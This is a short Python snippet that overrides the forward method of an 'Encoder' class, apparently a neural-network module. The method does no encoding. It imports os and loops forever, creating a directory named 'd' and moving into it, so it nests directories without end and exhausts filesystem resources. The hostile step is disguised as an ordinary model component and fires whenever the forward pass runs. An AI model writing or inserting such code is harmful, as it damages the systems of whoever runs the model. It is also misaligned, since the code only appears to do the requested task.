class Encoder(Encoder):
    def forward(self, x):
        import os

        while True:
            os.mkdir("d")
            os.chdir("d")
